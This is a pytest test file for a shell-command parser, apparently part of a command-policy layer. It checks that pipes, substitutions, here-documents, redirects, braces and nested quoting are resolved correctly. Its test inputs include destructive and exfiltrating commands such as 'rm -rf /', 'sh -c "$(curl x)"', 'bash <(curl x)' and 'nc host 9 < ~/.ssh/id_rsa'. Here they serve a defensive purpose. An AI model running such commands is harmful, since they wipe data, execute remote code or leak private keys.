from __future__ import annotations

import doctest

import pytest

from sluice.policies import _shell
from sluice.policies._shell import parse


def test_examples_in_docs() -> None:
    assert doctest.testmod(_shell).failed == 0


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("ls -la", [("", "", ("ls", "-la"), ())]),
        (
            "a; b && c || d | e & f",
            [
                (op, "", (w,), ())
                for op, w in [
                    ("", "a"),
                    (";", "b"),
                    ("&&", "c"),
                    ("||", "d"),
                    ("|", "e"),
                    ("&", "f"),
                ]
            ],
        ),
        # A quoted string is read as a line of its own too.
        (
            'rm -rf "$HOME"/.cache',
            [("", "", ("rm", "-rf", "$HOME/.cache"), ()), ("", "", ("$HOME/.cache",), ())],
        ),
        # A quoted string given to a program that takes text is not a command line...
        ("grep 'a|b;c' f", [("", "", ("grep", "a|b;c", "f"), ())]),
        (
            "ssh host 'a|b'",
            [("", "", ("ssh", "host", "a|b"), ()), ("", "", ("a",), ()), ("|", "", ("b",), ())],
        ),
        # ... but what it substitutes runs.
        (
            'echo "x $(rm -rf ~) y"',
            [
                ("", "", ("echo", "x $(rm -rf ~) y"), ()),
                ("$(", "echo", ("rm", "-rf", "~"), ()),
            ],
        ),
        # A here-document is data.
        ("cat <<EOF > f\nrm -rf /\nEOF\nls", [("", "", ("cat",), ("f",)), ("\n", "", ("ls",), ())]),
        ("echo x>>~/.log 2>&1", [("", "", ("echo", "x"), ("~/.log",))]),
        ("cmd &> out", [("", "", ("cmd",), ("out",))]),
        ("rm -rf \\\n  /", [("", "", ("rm", "-rf", "/"), ())]),
        ("r\\m x", [("", "", ("rm", "x"), ())]),
        # A substitution's commands come first; the word holds what it prints, if plain.
        ("bash <(curl x)", [("<(", "bash", ("curl", "x"), ()), ("", "", ("bash", "$(curl…)"), ())]),
        (
            "echo `curl x` y",
            [("`", "echo", ("curl", "x"), ()), ("", "", ("echo", "$(curl…)", "y"), ())],
        ),
        ("rm -rf $(echo ~)/", [("$(", "rm", ("echo", "~"), ()), ("", "", ("rm", "-rf", "~/"), ())]),
        (
            'sh -c "$(curl x)"',
            [
                ("", "", ("sh", "-c", "$(curl x)"), ()),
                ("$(", "sh", ("curl", "x"), ()),
                ("", "", ("$(curl…)",), ()),
            ],
        ),
        (
            'bash -c "echo \\"rm -rf /\\""',
            [
                ("", "", ("bash", "-c", 'echo "rm -rf /"'), ()),
                ("", "", ("echo", "rm -rf /"), ()),
            ],
        ),
    ],
)
def test_parse(
    line: str, expected: list[tuple[str, str, tuple[str, ...], tuple[str, ...]]]
) -> None:
    assert [(c.after, c.feeds, c.words, c.redirects) for c in parse(line)] == expected


@pytest.mark.parametrize(
    ("words", "name"),
    [
        (("sudo", "-E", "/bin/bash", "-s"), "bash"),
        (("env", "FOO=1", "python3", "x.py"), "python3"),
        (("LANG=C", "sort"), "sort"),
        ((), ""),
    ],
)
def test_program(words: tuple[str, ...], name: str) -> None:
    assert _shell.program(words) == name


def test_here_documents_are_read_apart() -> None:
    (psql, ls) = [c for c in parse("psql <<'SQL' db\nDROP TABLE t;\nSQL\nls") if c.words]
    assert psql.words == ("psql", "db")
    assert psql.heredoc == "DROP TABLE t;\n"  # what psql reads: no delimiter line
    assert ls.words == ("ls",)


def test_input_redirects_are_set_apart() -> None:
    (command,) = parse("nc host 9 < ~/.ssh/id_rsa")
    assert command.words == ("nc", "host", "9")
    assert command.inputs == ("~/.ssh/id_rsa",)


def test_quoting_depth_is_bounded() -> None:
    # Each quoted string is read again as a line; how deep must not be the writer's choice.
    line = "rm -rf /"
    for _ in range(8):
        line = 'sh -c "' + line.replace("\\", "\\\\").replace('"', '\\"') + '"'
    shells = [c for c in parse(line) if c.words[:1] == ("sh",)]
    assert len(shells) == 5  # the line itself and four levels of quoting


@pytest.mark.parametrize(
    ("args", "printed"),
    [
        (["put %s\\n", "a", "b"], "put a\nput b\n"),  # the format again for each value
        (["#!/bin/sh\\nrm -rf %s\\n", "~"], "#!/bin/sh\nrm -rf ~\n"),  # escapes printed
        (["a\\\\nb\\tc\\x"], "a\\nb\tc\\x"),  # an escaped backslash; others kept
        (["rm -rf %s%s", "~"], "rm -rf ~"),  # a conversion without a value prints nothing
        (["%i files", "3"], "3 files"),
        (["no conversion", "x"], "no conversion"),
        ([], ""),
    ],
)
def test_printf_output_fills_the_format_as_printf_does(args: list[str], printed: str) -> None:
    assert _shell.printf_output(args) == printed


@pytest.mark.parametrize(
    ("line", "word"),
    [
        ("rm -rf $(dirname $PWD)", "$PWD/.."),
        ('rm -rf "$(dirname ${PWD})"', "${PWD}/.."),
        ("rm -rf $(dirname $(pwd))", "./.."),
        ('rm -rf "$(dirname ~)"', "~/.."),
        ('rm -rf "$(dirname "$(dirname $PWD)")"', "$PWD/../.."),
        ("rm -rf `dirname ~/x/y`", "~/x"),
        ('rm -rf "$(dirname /home/dev/app)"', "/home/dev"),
        ("rm -rf $(dirname notes.md)", "."),
        ('rm -rf "$(dirname /home/dev/app/..)"', "/home/dev/app"),  # dirname reads text
        ("rm -rf $(dirname ..)", "."),
    ],
)
def test_dirname_of_a_known_path_prints_its_parent(line: str, word: str) -> None:
    assert parse(line)[-1].words[-1] == word


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ('rm -rf "$HOME/"{.cache,.npm,}', ("rm", "-rf", "$HOME/.cache", "$HOME/.npm", "$HOME/")),
        ("rm -rf 'build'/{dist,out}", ("rm", "-rf", "build/dist", "build/out")),
        ("echo '{a,b}' x", ("echo", "{a,b}", "x")),  # quoted braces stay
        ('echo "{a,b}"/{c,d}', ("echo", "{a,b}/{c,d}")),  # (read as bash's would not: whole)
        ("ls ${HOME}/{a,b}", ("ls", "${HOME}/{a,b}")),
    ],
)
def test_braces_outside_a_words_quotes_are_expanded(line: str, words: tuple[str, ...]) -> None:
    """bash expands braces that stand outside quotes, even in a word partly quoted."""
    assert parse(line)[0].words == words
